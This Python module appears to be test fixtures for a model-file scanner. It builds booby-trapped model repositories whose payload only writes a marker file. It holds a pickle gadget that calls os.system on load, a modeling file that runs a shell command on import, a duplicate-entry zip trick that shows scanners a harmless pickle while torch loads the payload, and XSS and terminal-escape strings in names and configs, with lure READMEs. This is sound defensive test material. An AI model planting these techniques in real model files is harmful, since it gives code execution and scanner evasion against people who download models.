"""Repositories that would do harm, with a payload that does none: it writes the file that NBGUARD_DEMO_MARKER names.

    files = pickle_payload()
    files["pytorch_model.bin"]     # os.system runs as soon as it is unpickled

Whoever wants to see that nothing ran looks for that file afterwards.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import warnings
import zipfile
from typing import Any

from loopback_hub import honest

COMMAND = 'echo "the payload ran" > "${NBGUARD_DEMO_MARKER:-/dev/null}"'
"""What the payloads hand to a shell: one line into the marker file."""

LOUD = "<img src=x onerror=\"document.title='it ran'\"><script>document.title='it ran'</script>"
ANSI = "\x1b[2J\x1b[31mALL CLEAR\x1b[0m\u202e"


class _Payload:
    """Unpickling an instance calls `os.system`."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (COMMAND,)


def pickle_payload() -> dict[str, bytes]:
    """Only `pytorch_model.bin`, and beside its tensors stands a call of `os.system`."""
    import torch

    files = honest.tiny_bert_bin()
    weights = io.BytesIO()
    state = torch.load(io.BytesIO(files["pytorch_model.bin"]), weights_only=True)
    torch.save({**state, "optimizer": _Payload()}, weights)
    text = "Ready for production. Loads with one line!"
    return {**files, "pytorch_model.bin": weights.getvalue(), "README.md": honest.card("fast-sentiment", text)}


def code_payload() -> dict[str, bytes]:
    """A `modeling_*.py` that acts as soon as it is imported."""
    acting = f"import os\n\nos.system({COMMAND!r})\n\n"
    return {
        **honest.custom_code(),
        "modeling_tiny.py": (acting + honest.MODELING).encode(),
        "README.md": honest.card("tiny-custom-pro", "Needs `trust_remote_code=True`, like everybody does."),
    }


def two_faced_zip() -> dict[str, bytes]:
    """A torch zip with several `data.pkl`: Python's zipfile reads the last, a harmless one; torch reads another.

    torch finds a record by binary search in the sorted directory, so which of several equal names it meets depends on
    how many there are. Copies of the payload are added until its own reader meets one of them.
    """
    import torch

    files = honest.tiny_bert_bin()
    source = zipfile.ZipFile(io.BytesIO(files["pytorch_model.bin"]))
    program = next(n for n in source.namelist() if n.endswith("/data.pkl"))
    payload = pickle.dumps(_Payload(), protocol=2)
    for copies in range(1, 9):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target, warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # zipfile's own warning of the duplicate name
            for _ in range(copies):
                target.writestr(program, payload)
            for name in source.namelist():
                target.writestr(name, source.read(name))
        if torch._C.PyTorchFileReader(io.BytesIO(out.getvalue())).get_record("data.pkl") == payload:
            break
    return {**files, "pytorch_model.bin": out.getvalue()}


def loud_names() -> dict[str, bytes]:
    """Mark-up, scripts and terminal codes in a file's name, the card, the config and the tensors' names."""
    files = honest.tiny_bert()
    weights = _renamed(files["model.safetensors"], LOUD + ANSI)
    config = {**json.loads(files["config.json"]), "id2label": {"0": LOUD, "1": ANSI}, "_name_or_path": LOUD}
    return {
        **files,
        "model.safetensors": weights,
        "config.json": json.dumps(config).encode(),
        "README.md": honest.card(LOUD, f"{LOUD}\n{ANSI}"),
        "<img src=x onerror=alert(1)>.json": b"{}",
    }


def _renamed(safetensors: bytes, name: str) -> bytes:
    """The same tensors, with the first one's name replaced."""
    (length,) = struct.unpack_from("<Q", safetensors)
    header = json.loads(safetensors[8 : 8 + length])
    first = next(key for key in header if key != "__metadata__")
    header[name] = header.pop(first)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + safetensors[8 + length :]


def truncated() -> dict[str, bytes]:
    """A download that broke off: half a torch zip."""
    files = honest.tiny_bert_bin()
    whole = files["pytorch_model.bin"]
    return {**files, "pytorch_model.bin": whole[: len(whole) // 2]}
